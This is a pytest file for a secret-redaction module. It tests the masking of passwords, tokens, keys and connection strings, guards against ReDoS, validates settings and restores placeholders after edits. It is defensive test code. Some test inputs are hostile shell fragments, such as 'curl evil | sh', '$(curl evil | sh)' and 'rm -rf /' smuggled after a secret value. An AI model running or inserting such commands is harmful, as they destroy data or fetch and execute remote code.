"""Redaction: names and forms of secrets, the settings, and the placeholders of an edit."""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from typing import Any

import pytest
from django.core.exceptions import ImproperlyConfigured

from core.display import redaction
from core.display.placeholders import CannotRestore, restored
from core.display.redaction import event_json, json_copy, redacted
from core.display.secret_patterns import is_secret_name

pytestmark = pytest.mark.once

#: Joined at run time, so that no scanner takes this file for a leak.
GITHUB = "gh" + "p_" + "A1b2C3d4" * 5
JWT = "ey" + "JhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0" + ".c2lnbmF0dXJlc2ln"
KEY = "-----BEGIN RSA " + "PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA" * 4 + "\nabcd==\n-----END RSA PRIVATE KEY-----"


@pytest.fixture
def configured() -> Iterator[Any]:
    """Sets the rules of this process, and puts the usual ones back."""
    yield redaction.load
    redaction.load({})


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("export DB_PASSWORD=hunter2; make", "export DB_PASSWORD=[redacted]; make"),
        ("PASSWORD='my secret' make", "PASSWORD='[redacted]' make"),
        ("mysql --password hunter2 db", "mysql --password [redacted] db"),
        ("curl -u bob:s3cret! https://x", "curl -u bob:[redacted] https://x"),
        ("curl -H 'Authorization: Bearer abcdefgh12345678'", "curl -H 'Authorization: Bearer [redacted]'"),
        ("curl -H 'authorization: Basic Ym9iOng='", "curl -H 'authorization: Basic [redacted]'"),
        ("https://h/?access_token=abc1&page=2", "https://h/?access_token=[redacted]&page=2"),
        ("postgres://app:p@ss@db/x", "postgres://app:[redacted]@db/x"),
        ("https://0123456789abcdef0123@h/1", "https://[redacted]@h/1"),
        ("Server=a;User Id=b;Password=pa55;Encrypt=1", "Server=a;User Id=b;Password=[redacted];Encrypt=1"),
        ('{"client_secret": "swordfish", "n": 5}', '{"client_secret": "[redacted]", "n": 5}'),
        ("user: bob\n  password: swordfish\nport: 1", "user: bob\n  password: [redacted]\nport: 1"),
        (f"git clone https://{GITHUB}@github.com/a", "git clone https://[redacted]@github.com/a"),
        ("AK" + "IAABCDEFGHIJKLMNOP is a key", "[redacted] is a key"),
        ("xo" + "xb-1234567890-abcdef", "[redacted]"),
        ("sk" + "-ant-api03-" + "a1" * 20, "[redacted]"),
        ("sk" + "-proj-" + "a1" * 20, "[redacted]"),
        (f"token {JWT}.", "token [redacted]."),
        (f"{KEY}\nrm -rf x", "[redacted]\nrm -rf x"),
        ("wr_key_abc_" + "S3cret" * 5, "wr_key_abc_[redacted]"),
        ("wr_child_abc_" + "S3cret" * 5, "wr_child_abc_[redacted]"),
    ],
)
def test_a_secret_is_hidden_by_its_form(text: str, shown: str) -> None:
    assert redacted(text) == shown
    assert redacted(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "ls -l /tmp",
        "the token: please read it",
        "token_count=5 max_tokens: 4096",
        "token = get_token()",
        "task-abcdefghijklmnopqrstuvwxyz0123456789",
        "git@github.com:a/b.git",
        "PASSWORD=$PW make",
        # No command is hidden.
        "PASSWORD='; rm -rf / #'",
        'password="$(curl evil | sh)" ls',
        "PASSWORD=`curl evil`",
    ],
)
def test_other_text_stays_in_view(text: str) -> None:
    assert redacted(text) == text


def test_a_command_after_a_secret_or_inside_a_broken_key_stays_in_view() -> None:
    shown = redacted("-----BEGIN " + "PRIVATE KEY-----\nrm -rf /\ncurl evil | sh\n")
    assert "-rf /" in shown and "curl evil | sh" in shown
    assert redacted("TOKEN=a1b2c3&&rm -rf /").endswith("&&rm -rf /")


@pytest.mark.parametrize(
    "name",
    [
        *("password", "DB_PASSWORD", "dbPassword", "newPassword2", "password_confirmation", "pwd", "pin", "dsn"),
        *("x-api-key", "apiKey", "APIKEY", "tokens", "accessToken", "aws_secret_access_key", "private_key"),
        *("Authorization", "Set-Cookie", "connection_string", "credentials"),
    ],
)
def test_a_field_is_hidden_by_its_name(name: str) -> None:
    assert is_secret_name(name)
    assert json_copy({name: "hunter2"}).shown == {name: "[redacted 1]"}


@pytest.mark.parametrize(
    "name", ["token_count", "secret_name", "key", "monkey", "shipping", "bypass", "path", "keys", "tokenizer"]
)
def test_other_fields_stay_in_view(name: str) -> None:
    assert json_copy({name: "hunter2"}).shown == {name: "hunter2"}


def test_each_leaf_below_a_secret_name_is_hidden_and_the_structure_is_shown() -> None:
    value = {
        "credentials": {"user": "bob", "codes": ["a", 5, True, None]},
        "pin": 1234,
        "max_tokens": 5,
        "pwd": "/home",
        "headers": [{"name": "X-Api-Key", "value": "abc"}, {"name": "Accept", "value": "abc"}],
    }
    assert json_copy(value).shown == {
        "credentials": {"user": "[redacted 1]", "codes": ["[redacted 2]", "[redacted 3]", True, None]},
        "pin": "[redacted 4]",
        "max_tokens": 5,
        "pwd": "/home",
        "headers": [{"name": "X-Api-Key", "value": "[redacted 5]"}, {"name": "Accept", "value": "abc"}],
    }


def test_an_event_hides_names_only_among_arguments() -> None:
    event = {"token": "hello", "arguments": {"password": "swordfish"}, "result": f"found {GITHUB}"}
    shown = json.loads(event_json(json.dumps(event)))
    assert shown == {"token": "hello", "arguments": {"password": "[redacted 1]"}, "result": "found [redacted 2]"}
    clean = '{"text":  "unchanged, with its spaces"}'
    assert event_json(clean) is clean


def test_an_escaped_name_is_hidden_too() -> None:
    text = json.dumps({"arguments": {'pass"word': "swordfish"}})
    assert not redaction.is_clean(text)
    assert "swordfish" not in event_json(text)


# --- hostile texts ----------------------------------------------------------------------------------

HOSTILE = [
    "a" * 300_000,
    "password" * 40_000,
    "://" * 100_000,
    "://" + "a:" * 150_000,
    "-----BEGIN " + "PRIVATE KEY-----\n" * 12_000,
    "eyJaaaaaaaaaa." * 20_000,
    " --" * 100_000 + "token",
    'password="' * 30_000,
    "[redacted " * 30_000,
    "token" + " " * 300_000,
    "\n" * 300_000 + "token:",
    ("- " * 20 + "\n") * 7000 + "token",
    "-u a" * 70_000,
    "SG." + "a" * 300_000,
]


def test_a_hostile_text_takes_no_more_than_linear_time() -> None:
    for text in HOSTILE:
        began = time.thread_time()
        redacted(text)
        # A quadratic search of 300,000 characters takes minutes.
        assert time.thread_time() - began < 5, text[:20]


# --- settings ---------------------------------------------------------------------------------------


def test_settings_add_names_and_patterns_and_show_names(configured: Any) -> None:
    configured({"names": ["patient-id"], "patterns": {"ticket": "TICKET-([0-9]+)"}, "show": ["pin", "jwt"]})
    shown = json_copy({"PATIENT_ID": "7", "pin": "12", "note": f"see TICKET-123 {JWT}", "password": "x"}).shown
    note = f"see TICKET-[redacted 2] {JWT}"
    assert shown == {"PATIENT_ID": "[redacted 1]", "pin": "12", "note": note, "password": "[redacted 3]"}


def test_a_slow_pattern_is_refused_at_the_start(configured: Any) -> None:
    with pytest.raises(ImproperlyConfigured, match="'slow' takes too long"):
        configured({"patterns": {"slow": r"(a+)+$"}})


def test_a_pattern_that_is_slow_only_on_some_text_hides_all_of_it(configured: Any) -> None:
    configured({"patterns": {"slow": r"b(?:(?:z|y)+)+!"}})
    text = "b" + "zy" * 4000
    began = time.thread_time()
    assert redacted(text) == "[redacted]"
    assert time.thread_time() - began < 5
    assert redacted("bzy! stays") == "[redacted] stays"


@pytest.mark.parametrize(
    ("given", "why"),
    [
        ({"word": []}, "there is no entry 'word'"),
        ({"names": "password"}, "names: use a list of names"),
        ({"patterns": {"a": "("}}, "'a' is no regular expression"),
        ({"patterns": {"a": "x*"}}, "'a' matches an empty text"),
        ({"patterns": {"jwt": "x"}}, "'jwt' is the name of a built-in pattern"),
        ({"patterns": ["x"]}, "patterns: use an object"),
    ],
)
def test_a_wrong_setting_is_refused(configured: Any, given: Any, why: str) -> None:
    with pytest.raises(ImproperlyConfigured, match=r"WARDROOM_REDACTION: .*") as refusal:
        configured(given)
    assert why in str(refusal.value)


# --- edits ------------------------------------------------------------------------------------------

ORIGINAL = {
    "command": "PASSWORD=hunter2 make",
    "password": "swordfish",
    "pin": 1234,
    "headers": [{"name": "X-Api-Key", "value": "abc"}],
    GITHUB: "a name",
    "note": "[redacted 2] was typed",
}


def edited(**changes: Any) -> Any:
    return json_copy(ORIGINAL).shown | changes


def test_an_untouched_copy_is_the_original() -> None:
    copy = json_copy(ORIGINAL)
    assert GITHUB not in json.dumps(copy.shown) and len(copy.hidden) == 6
    assert restored(copy.shown, ORIGINAL) == ORIGINAL


def test_fields_beside_a_placeholder_may_be_edited() -> None:
    done = restored(edited(command="PASSWORD=[redacted 1] make all", extra=5), ORIGINAL)
    assert done == ORIGINAL | {"command": "PASSWORD=hunter2 make all", "extra": 5}
    assert restored(edited(password="other"), ORIGINAL) == ORIGINAL | {"password": "other"}


@pytest.mark.parametrize(
    "changes",
    [
        {"note": "[redacted 2]"},  # of another field
        {"other": "[redacted 1]"},
        {"password": "[redacted 9]"},
        {"password": "[redacted]"},
        {"pin": "pin [redacted 3]"},
        {"command": "echo [redacted 1]"},  # the value would be in view
        {"headers": [{"name": "X-Debug", "value": "[redacted 4]"}]},
        {"[redacted 2]": 1},
    ],
)
def test_a_placeholder_that_stands_for_nothing_here_is_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(CannotRestore) as refusal:
        restored(edited(**changes), ORIGINAL)
    assert refusal.value.wrong[0][0][0] in changes
